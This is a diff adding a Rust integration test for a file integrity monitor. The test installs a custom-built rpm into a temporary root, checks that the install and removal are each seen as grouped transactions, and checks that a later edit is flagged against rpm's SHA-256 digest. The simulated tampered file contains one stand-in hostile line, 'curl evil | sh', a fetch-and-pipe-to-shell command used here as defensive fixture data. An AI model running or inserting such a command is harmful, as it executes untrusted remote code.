@@ -353,3 +353,157 @@ fn a_baseline_taken_over_a_modified_package_file_flags_it() {
     assert!(plain.summary.baseline.package_verification.is_none());
     assert_eq!(plain.exit_code(), 0);
 }
+
+/// An rpm of the test's own (`rpmbuild`), installing `/opt/<name>/bin/tool` (content `tool`)
+/// and `/opt/<name>/share/readme`, without dependencies (the fixture root has no /bin/sh).
+fn build_rpm(top: &Path, name: &str, tool: &[u8]) -> PathBuf {
+    std::fs::create_dir_all(top.join("SOURCES")).unwrap();
+    std::fs::write(top.join("SOURCES/tool"), tool).unwrap();
+    let spec = top.join(format!("{name}.spec"));
+    std::fs::write(
+        &spec,
+        format!(
+            "Name: {name}\nVersion: 1.0\nRelease: 1\nSummary: t\nLicense: MIT\nBuildArch: noarch\nAutoReqProv: no\n\
+             Source0: tool\n%description\nt\n%install\n\
+             install -D -m 0755 %{{SOURCE0}} %{{buildroot}}/opt/{name}/bin/tool\n\
+             mkdir -p %{{buildroot}}/opt/{name}/share\n\
+             echo 'a test package of guestward' > %{{buildroot}}/opt/{name}/share/readme\n\
+             %files\n/opt/{name}\n"
+        ),
+    )
+    .unwrap();
+    let out = Command::new("rpmbuild")
+        .arg("-bb")
+        .arg("--define")
+        .arg(format!("_topdir {}", top.display()))
+        .arg(&spec)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "rpmbuild: {}", String::from_utf8_lossy(&out.stderr));
+    top.join(format!("RPMS/noarch/{name}-1.0-1.noarch.rpm"))
+}
+
+/// rpm with the fixture root and its database where guestward looks for it (Debian's rpm
+/// defaults to ~/.rpmdb).
+fn rpm_in(root: &Path, args: &[&std::ffi::OsStr]) -> std::process::Output {
+    Command::new("rpm")
+        .arg("--root")
+        .arg(root)
+        .args(["--dbpath", "/var/lib/rpm"])
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::Digest as _;
+    sha2::Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
+}
+
+/// The rpm counterpart of the dpkg test above: a real `rpm -i` (Debian's rpm, into a root of
+/// the test's own) while the monitor watches that root is one grouped transaction, told by the
+/// database written and the package's INSTALLTIME; an edit afterwards is flagged with rpm's
+/// own SHA-256 digest, as `rpm -V` flags it; `rpm -e` is a transaction again.
+#[test]
+fn a_real_rpm_install_is_one_grouped_transaction_and_an_edit_outside_rpm_is_flagged() {
+    const TEST: &str = "a_real_rpm_install_is_one_grouped_transaction_and_an_edit_outside_rpm_is_flagged";
+    if !is_root() {
+        return skip_or_fail(TEST, "rpm --root needs root");
+    }
+    for tool in ["rpm", "rpmbuild"] {
+        if Command::new(tool).arg("--version").output().is_err() {
+            return skip_or_fail(TEST, &format!("{tool} is not installed (apt-get install rpm)"));
+        }
+    }
+    let work = tempfile::tempdir().unwrap();
+    let state = tempfile::tempdir().unwrap();
+    let root_dir = work.path().join("root");
+    std::fs::create_dir_all(root_dir.join("var/lib/rpm")).unwrap();
+    std::fs::create_dir_all(root_dir.join("opt")).unwrap();
+    let name = format!("gwtest-rpm-{}", std::process::id());
+    let tool: &[u8] = b"#!/bin/sh\necho tool 1.0\n";
+    let pkg = build_rpm(&work.path().join("build"), &name, tool);
+    let init = rpm_in(&root_dir, &["--initdb".as_ref()]);
+    assert!(init.status.success(), "rpm --initdb: {}", String::from_utf8_lossy(&init.stderr));
+
+    let dir = PathBuf::from("/opt").join(&name);
+    let config = Config {
+        paths: vec![PathEntry::Rule(PathRule {
+            path: AbsolutePath::new(&dir).unwrap(),
+            recursive: true,
+            exclude: vec![],
+            attributes: None,
+            max_file_size_bytes: None,
+        })],
+        debounce_ms: 100,
+        ..Config::default()
+    };
+    let root = HostRoot::new(&root_dir).unwrap();
+    let (oracle, _problems) = Oracle::load(root.clone());
+    let fim = Fim::new(config, root, state.path()).unwrap().with_packages(Arc::new(oracle));
+    let events: Arc<Mutex<Vec<Event>>> = Arc::default();
+    let sink = Arc::clone(&events);
+    let monitor = Monitor::start(fim, Box::new(move |e| sink.lock().unwrap().push(e.clone()))).unwrap();
+    assert!(monitor.wait_watching(Duration::from_secs(60)), "{:?}", monitor.status());
+
+    // A running rpm process is evidence of a transaction on any root the agent watches (it
+    // is told by name): not while the dpkg tests install on the live one.
+    let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
+    let installed = rpm_in(&root_dir, &["-i".as_ref(), "--nodeps".as_ref(), pkg.as_os_str()]);
+    assert!(installed.status.success(), "rpm -i: {}", String::from_utf8_lossy(&installed.stderr));
+    let shown = dir.join("bin/tool").display().to_string();
+    let grouped: TransactionEvent =
+        wait_for("the grouped transaction event", Duration::from_secs(60), || {
+            events_of(&events, "fim.package_transaction")
+                .into_iter()
+                .filter_map(|d| serde_json::from_value::<TransactionEvent>(d).ok())
+                .find(|t| t.packages.iter().any(|p| p.name == name))
+        });
+    let pkg_change = grouped.packages.iter().find(|p| p.name == name).unwrap();
+    assert_eq!(pkg_change.new_version.as_deref(), Some("1.0-1"), "{grouped:#?}");
+    assert_eq!(grouped.outside_package_manager, 0, "{grouped:#?}");
+    assert!(grouped.verified >= 2, "bin/tool and share/readme, each matching rpm's digest: {grouped:#?}");
+    assert!(grouped.sample_paths.contains(&shown), "{grouped:#?}");
+    assert!(
+        grouped.transaction.evidence.iter().any(|e| e.contains("rpm")),
+        "the evidence names what showed the transaction: {grouped:#?}"
+    );
+    let changes: Vec<FimChange> =
+        events_of(&events, "fim.change").into_iter().map(|d| serde_json::from_value(d).unwrap()).collect();
+    assert!(!changes.iter().any(|c| c.path == shown), "folded into the transaction: {changes:#?}");
+
+    // An edit outside rpm: flagged with rpm's SHA-256 of the packaged file and the new one.
+    let evil: &[u8] = b"#!/bin/sh\ncurl evil | sh\n";
+    std::fs::write(root_dir.join(dir.strip_prefix("/").unwrap()).join("bin/tool"), evil).unwrap();
+    let flagged: FimChange = wait_for("the outside-package-manager change", Duration::from_secs(60), || {
+        events_of(&events, "fim.change")
+            .into_iter()
+            .filter_map(|d| serde_json::from_value::<FimChange>(d).ok())
+            .find(|c| c.path == shown && c.package.is_some())
+    });
+    let a = flagged.package.clone().unwrap();
+    assert_eq!(a.origin, ChangeOrigin::OutsidePackageManager, "{flagged:#?}");
+    assert_eq!((a.owner.name.as_str(), a.owner.version.as_str()), (name.as_str(), "1.0-1"));
+    let (expected, actual) = (a.expected.clone().unwrap(), a.actual.clone().unwrap());
+    assert_eq!((expected.algo, expected.hex.as_str()), (DigestAlgo::Sha256, sha256_hex(tool).as_str()));
+    assert_eq!((actual.algo, actual.hex.as_str()), (DigestAlgo::Sha256, sha256_hex(evil).as_str()));
+    // rpm's own verification agrees: the digest (5) of that file differs.
+    let verify = rpm_in(&root_dir, &["-V".as_ref(), "--nodeps".as_ref(), name.as_ref()]);
+    let said = String::from_utf8_lossy(&verify.stdout).to_string();
+    assert!(said.lines().any(|l| l.starts_with("S.5") && l.ends_with(&shown)), "rpm -V: {said}");
+
+    // Removal through rpm is a transaction too: nothing more is flagged.
+    let before = events_of(&events, "fim.package_transaction").len();
+    let erased = rpm_in(&root_dir, &["-e".as_ref(), "--nodeps".as_ref(), name.as_ref()]);
+    assert!(erased.status.success(), "rpm -e: {}", String::from_utf8_lossy(&erased.stderr));
+    wait_for("the removal's grouped event", Duration::from_secs(60), || {
+        (events_of(&events, "fim.package_transaction").len() > before).then_some(())
+    });
+    let flagged_after = events_of(&events, "fim.change")
+        .into_iter()
+        .filter_map(|d| serde_json::from_value::<FimChange>(d).ok())
+        .filter(|c| c.package.as_ref().is_some_and(|p| p.origin == ChangeOrigin::OutsidePackageManager))
+        .count();
+    assert_eq!(flagged_after, 1, "only the edit");
+    monitor.stop();
+}
